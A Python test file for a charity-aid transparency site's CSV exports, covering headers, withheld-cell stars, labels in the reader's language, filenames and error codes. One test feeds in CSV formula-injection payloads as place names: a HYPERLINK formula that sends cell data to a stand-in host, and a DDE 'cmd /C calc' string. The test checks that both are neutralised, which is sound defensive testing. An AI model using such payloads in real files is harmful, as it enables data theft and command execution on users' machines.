"""A CSV per public table (/transparency/<table>.csv): what the page shows of that table and nothing more,
UTF-8 with a BOM for Excel, labels in the reader's language, "*" for a withheld cell with a last line
saying why, formula-safe text, a filename naming the table, scope, category and day."""

import csv
import io

from public_payload import PLACES, page_tables, store

from marketplace.transparency.labels import TABLES

EN = {"Accept-Language": "en-GB,en;q=0.9"}


def _csv(client, url, **kw) -> tuple[list[list[str]], object]:
    response = client.get(url, **kw)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel opens the Chinese
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), response


def test_a_table_as_csv_has_the_header_rows_totals_and_an_explained_star(client, tx, world):
    store(tx)
    rows, response = _csv(client, "/transparency/needs_by_area.csv")
    assert rows[0] == ["地区", "助学", "医疗康复", "生活照料", "合计"]
    assert rows[1] == ["涡阳县", "12", "*", "9", "*"]
    assert rows[2] == ["蒙城县", "7", "*", "6", "*"]
    assert rows[3] == ["合计", "19", "8", "15", "42"]
    assert rows[4][0].startswith("* 不公布") and "少于5户" in rows[4][0] and len(rows) == 5
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=transparency-needs_by_area-all-all-20261129.csv")


def test_every_csv_holds_exactly_what_its_table_on_the_page_shows(client, tx, world):
    store(tx)
    page = page_tables(client.get("/transparency").get_data(as_text=True))
    for table_id in TABLES:
        rows, _response = _csv(client, f"/transparency/{table_id}.csv")
        shown = [[cell.replace("＊", "*").replace(",", "") for cell in row] for row in page[table_id]]
        numbers = [[cell.replace(",", "") for cell in row] for row in rows[:-1]]
        # The CSV keeps numbers as numbers (3.0 as 3.0, not "3.0" formatted otherwise): compare as numbers.
        assert [[_number(c) for c in row] for row in numbers] == [[_number(c) for c in row] for row in shown]
        assert rows[-1][0].startswith("* ")


def _number(text: str):
    try:
        return float(text)
    except ValueError:
        return text


def test_a_place_name_that_looks_like_a_formula_stays_text(client, tx, world):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    store(tx, places=[{"key": "341621", "name": evil}, {"key": "341622", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}])
    rows, _response = _csv(client, "/transparency/participation.csv")
    assert rows[1][0] == "'" + evil
    assert rows[2][0].startswith("'@")
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
    # ...and on the page it is escaped text, not markup.
    html = client.get("/transparency").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1" in html


def test_the_csv_of_a_scope_and_category_in_english(client, tx, world):
    store(tx, "341621", scope_name="涡阳县")
    store(tx, "341621", "education", scope_name="涡阳县")
    rows, response = _csv(client, "/transparency/money_by_month.csv?region=341621&category=education", headers=EN)
    assert rows[0] == ["Month", "Government aid", "Charity aid", "Volunteering", "Government-purchased service",
                       "Total"]
    assert rows[1][0] == "Dec 2025" and rows[1][1] == "1234567"
    assert rows[-2][0] == "Total" and rows[-1][0].startswith("* Not published")
    assert response.headers["Content-Disposition"].endswith("money_by_month-341621-education-20261129.csv")


def test_no_csv_for_an_unknown_table_or_filter_or_before_the_first_computation(client, tx, world):
    assert client.get("/transparency/needs_by_area.csv").status_code == 404
    store(tx)
    assert client.get("/transparency/households.csv").status_code == 404
    assert client.get("/transparency/needs_by_area.csv?category=weapons").status_code == 422
    assert client.get("/transparency/needs_by_area.csv?region=341622").status_code == 404
    assert client.get("/transparency/needs_by_area.csv?region=341621").status_code == 404


def test_place_names_are_shown_as_stored(client, tx, world):
    store(tx)
    rows, _response = _csv(client, "/transparency/flagged_reach.csv")
    assert [r[0] for r in rows[1:3]] == [p["name"] for p in PLACES]
    assert rows[2][1:] == ["*", "*", "*"]
